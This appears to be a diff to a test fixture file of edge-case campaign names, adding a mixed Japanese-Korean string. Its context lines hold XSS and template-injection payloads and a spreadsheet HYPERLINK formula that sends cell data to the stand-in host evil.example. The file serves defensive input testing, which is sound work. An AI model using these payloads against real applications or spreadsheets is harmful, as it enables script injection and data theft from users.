@@ -14,6 +14,7 @@ ATTACK = '<img src=x onerror="alert(1)">'
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'
 ARABIC = "حملة الربيع للعملاء الجدد في الشرق الأوسط"
 EMOJI = "Launch 🚀🎉 with 👩‍👩‍👧 and 🇪🇺"
+CHINESE = "東京 春のキャンペーン 한국어"
 LONG = "Donaudampfschifffahrtsgesellschaftskapitän" * 8
 NAMES = (
     ATTACK,
@@ -21,6 +22,7 @@ NAMES = (
     ARABIC,
     EMOJI,
     LONG,
+    CHINESE,
     "</script><script>alert(2)</script>",
     "{{ 7*7 }} ${7*7} %{x} javascript:alert(3)",
 )
